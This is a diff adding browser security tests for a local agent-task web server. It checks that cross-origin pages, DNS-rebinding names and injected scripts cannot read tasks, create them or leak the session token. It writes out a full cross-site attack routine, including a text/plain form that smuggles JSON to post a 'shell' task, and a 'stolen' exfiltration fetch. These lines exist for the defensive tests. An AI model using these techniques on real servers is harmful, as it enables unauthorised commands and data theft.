@@ -1,0 +1,219 @@
+// What other sites can do to the page of somebody who has it open in the same browser: nothing. The other
+// site is at another port (same site, another origin), at `localhost`, and at a name of its own; and it is
+// the server itself under a name that was made to point at it.
+
+/// <reference lib="dom" />
+
+import { assert, assertEquals, assertNotEquals } from "../support/assert.ts";
+import { makeBox } from "../support/program.ts";
+import { until, webTest } from "./browser.ts";
+import { addTask, nameOf, serveBox } from "./support.ts";
+
+const SECRET = "a prompt that nobody else may read";
+
+/** Names beside 127.0.0.1 that lead to this machine, as an attacker's do. */
+const NAMES = ["--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1"];
+
+/** A site of somebody else, with one page. */
+function serveOther(): { port: number } & AsyncDisposable {
+  const server = Deno.serve(
+    { hostname: "127.0.0.1", port: 0, onListen() {} },
+    () =>
+      new Response("<!doctype html><title>Other</title><body>", {
+        headers: { "content-type": "text/html" },
+      }),
+  );
+  return { port: server.addr.port, [Symbol.asyncDispose]: () => server.shutdown() };
+}
+
+/** Everything that a script of another site can try; what each came to. Runs in the page. */
+async function attack(
+  { api, name, id, page }: { api: string; name: string; id: string; page: string },
+): Promise<Record<string, string>> {
+  const came: Record<string, string> = {};
+  const base = `${api}/workspaces/${name}`;
+  const task = JSON.stringify({ agent: "shell", prompt: "true" });
+  const order = JSON.stringify({ tasks: [id] });
+  const note = async (what: string, attempt: () => Promise<string>) => {
+    try {
+      came[what] = await attempt();
+    } catch (error) {
+      came[what] = `refused: ${(error as Error).message ?? error}`;
+    }
+  };
+  const loaded = (element: HTMLElement & { src?: string }, src: string) =>
+    new Promise<string>((resolve) => {
+      element.onload = () => resolve("loaded");
+      element.onerror = () => resolve("refused");
+      element.src = src;
+      document.body.append(element);
+      setTimeout(() => resolve("nothing"), 3000);
+    });
+  const read = (init: RequestInit, url = `${base}/tasks`) => async () => {
+    const response = await fetch(url, { credentials: "include", ...init });
+    return `${response.type} ${response.status}: ${await response.text()}`;
+  };
+  await note("fetch", read({}));
+  await note("fetch of the page", read({}, page));
+  await note("fetch, no-cors", read({ mode: "no-cors" }));
+  await note("post of a task", read({ method: "POST", mode: "no-cors", body: task }));
+  await note(
+    "post of a task as JSON",
+    read({ method: "POST", body: task, headers: { "content-type": "application/json" } }),
+  );
+  await note(
+    "cancel",
+    read({ method: "POST", mode: "no-cors", body: order }, `${base}/actions/cancel`),
+  );
+  await note("beacon", () => {
+    navigator.sendBeacon(`${base}/tasks`, new Blob([task], { type: "text/plain" }));
+    return Promise.resolve("sent");
+  });
+  await note("img", () => loaded(document.createElement("img"), `${base}/tasks/${id}/log`));
+  await note("script", () => loaded(document.createElement("script"), `${base}/tasks`));
+  await note("form", () => {
+    const frame = document.createElement("iframe");
+    frame.name = "target";
+    document.body.append(frame);
+    const form = document.createElement("form");
+    form.method = "POST";
+    form.enctype = "text/plain";
+    form.target = "target";
+    form.action = `${base}/tasks`;
+    const input = document.createElement("input");
+    // As text/plain this is JSON: {"agent":"shell","prompt":"true","x":"=y"}
+    input.name = `{"agent":"shell","prompt":"true","x":"`;
+    input.value = `y"}`;
+    form.append(input);
+    document.body.append(form);
+    form.submit();
+    return new Promise((resolve) => setTimeout(() => resolve("sent"), 500));
+  });
+  await note("iframe", async () => {
+    const frame = document.createElement("iframe");
+    await loaded(frame, page);
+    return frame.contentDocument === null ? "shut" : frame.contentDocument.body.textContent ?? "";
+  });
+  await note("WebSocket", () =>
+    new Promise((resolve) => {
+      const socket = new WebSocket(`${api.replace("http", "ws")}/events`);
+      socket.onopen = () => resolve("open");
+      socket.onerror = () => resolve("refused");
+    }));
+  await note("EventSource", () =>
+    new Promise((resolve) => {
+      const source = new EventSource(`${api}/events`, { withCredentials: true });
+      source.onmessage = ({ data }) => resolve(data);
+      source.onopen = () => resolve("open");
+      source.onerror = () => {
+        source.close();
+        resolve("refused");
+      };
+    }));
+  await note("window.open", async () => {
+    const opened = globalThis.open(page);
+    await new Promise((resolve) => setTimeout(resolve, 1000));
+    return opened!.document.body.textContent ?? "";
+  });
+  return came;
+}
+
+for (const host of ["127.0.0.1", "localhost", "evil.test"]) {
+  webTest(`a site at ${host} reads nothing and changes nothing`, async (browser) => {
+    await using box = await makeBox();
+    const id = addTask(box, { prompt: SECRET });
+    await using site = await serveBox(box.root);
+    await using other = serveOther();
+    const own = await site.open(browser, `/w/${nameOf(box)}/now`);
+    await own.page.getByText(SECRET).first().waitFor();
+    const before = box.tasks();
+    const tab = await browser.open({ beside: own, url: `http://${host}:${other.port}/` });
+    const came = await tab.page.evaluate(attack, {
+      api: `${site.origin}/api/v1`,
+      name: nameOf(box),
+      id,
+      page: `${site.origin}/w/${nameOf(box)}/now`,
+    });
+    tab.takeTrouble();
+    assertEquals(JSON.stringify(came).includes(SECRET), false, JSON.stringify(came));
+    for (const [what, result] of Object.entries(came)) {
+      if (what === "beacon" || what === "form" || what.includes("no-cors")) continue;
+      const harmless = /^(?:refused|shut|nothing|opaque 0: $)/.test(result);
+      assert(harmless, `${what}: ${result}`);
+    }
+    assertEquals(box.tasks(), before);
+    // And yet it still works for whom it is for.
+    const added = await site.post<{ taskId: string }>(`/workspaces/${nameOf(box)}/tasks`, {
+      agent: "shell",
+      prompt: "true",
+    });
+    await own.page.getByText(added.taskId.slice(-3)).first().waitFor();
+    assertEquals(own.takeTrouble(), []);
+  }, NAMES);
+}
+
+webTest("a name that was made to point at the server gets nothing from it", async (browser) => {
+  await using box = await makeBox();
+  addTask(box, { prompt: SECRET });
+  await using site = await serveBox(box.root);
+  const url = `http://rebound.test:${site.port}`;
+  const tab = await browser.open();
+  const answer = await tab.page.goto(`${url}/w/${nameOf(box)}/now#${site.token}`);
+  assertEquals(answer?.status(), 403);
+  const came = await tab.page.evaluate(async (path) => {
+    const post = await fetch("/api/v1/session", { method: "POST", body: "{}" });
+    const tasks = await fetch(path);
+    return [post.status, tasks.status, await tasks.text()] as const;
+  }, `/api/v1/workspaces/${nameOf(box)}/tasks`);
+  assertEquals(came.slice(0, 2), [403, 403]);
+  assert(!came[2].includes(SECRET));
+  assertEquals(await tab.context.cookies(), []);
+  tab.takeTrouble();
+}, NAMES);
+
+webTest("no request of the page leaves the server, nor is its address told", async (browser) => {
+  await using box = await makeBox();
+  addTask(box);
+  await using site = await serveBox(box.root);
+  const tab = await site.open(browser);
+  const answer = await tab.page.goto(`${site.origin}/w/${nameOf(box)}/now`);
+  const headers = answer!.headers();
+  assertEquals(headers["referrer-policy"], "no-referrer");
+  assertNotEquals(headers["content-security-policy"], undefined);
+  // A script that came in whatever way could send nothing to anywhere.
+  const sent = await tab.page.evaluate(() =>
+    fetch("http://localhost:9/?stolen", { mode: "no-cors" }).then(() => "sent", () => "refused")
+  );
+  assertEquals(sent, "refused");
+  const trouble = tab.takeTrouble();
+  assert(
+    trouble.some((line) => /Content Security Policy|Refused to connect/.test(line)),
+    `${trouble}`,
+  );
+});
+
+webTest("the token leaves the address, and no script can read it", async (browser) => {
+  await using box = await makeBox();
+  addTask(box);
+  await using site = await serveBox(box.root);
+  const tab = await browser.open({ url: site.address });
+  await until(
+    "the token to leave the address",
+    () => Promise.resolve(!tab.page.url().includes("#")),
+  );
+  const seen = await tab.page.evaluate(() => ({
+    cookie: document.cookie,
+    stored: JSON.stringify({ ...localStorage, ...sessionStorage }),
+    entries: history.length,
+    text: document.documentElement.outerHTML,
+  }));
+  assertEquals(seen.cookie, "");
+  assert(!seen.stored.includes(site.token));
+  assert(!seen.text.includes(site.token));
+  // Nor does the way back lead to it.
+  await tab.page.goBack().catch(() => {});
+  assert(!tab.page.url().includes(site.token), tab.page.url());
+  const [cookie] = await tab.context.cookies(site.origin);
+  assertEquals([cookie!.httpOnly, cookie!.sameSite], [true, "Strict"]);
+  assert(cookie!.name.includes(String(site.port)), cookie!.name);
+});
